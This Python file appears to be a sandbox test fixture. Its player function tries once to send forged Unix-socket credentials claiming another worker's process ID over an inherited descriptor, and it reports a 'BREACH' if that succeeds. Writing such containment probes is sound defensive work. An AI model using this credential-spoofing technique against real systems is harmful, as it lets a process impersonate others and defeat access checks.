"""fd_credentials: send forged credentials with an answer.

Family: descriptors.  Contained outcome wanted: plays_normally_but_gets_nothing.
Test fixture for a sandbox; bounded by construction.  See README.md beside the manifest.
"""
import json as _json, sys as _sys
_ID = "fd_credentials"
try: P = _json.loads(r'''@@PROBE@@''')
except ValueError: P = {}
_hit = []
_len = len

def breach(detail):
    _hit.append(str(detail))
    for s in (_sys.stdout, _sys.stderr):
        try: print("BREACH:%s:%s" % (_ID, str(detail)[:200]), file=s, flush=True)
        except Exception: pass

def attack(observation):
    import os, socket, struct
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET, 0, 3)
    forged = struct.pack("3i", P.get("worker_pid", 1), 0, 0)
    channel.sendmsg([b'{"q":1,"a":7}'], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, forged)], socket.MSG_DONTWAIT)
    breach("credentials of another were accepted")

_done = False
def choose(observation):
    global _done
    if not _done:
        _done = True
        try: attack(observation)
        except Exception as e: print("note %s: %s" % (type(e).__name__, str(e)[:100]))
    return _len(observation["legal"]) - 1 if _hit else 0
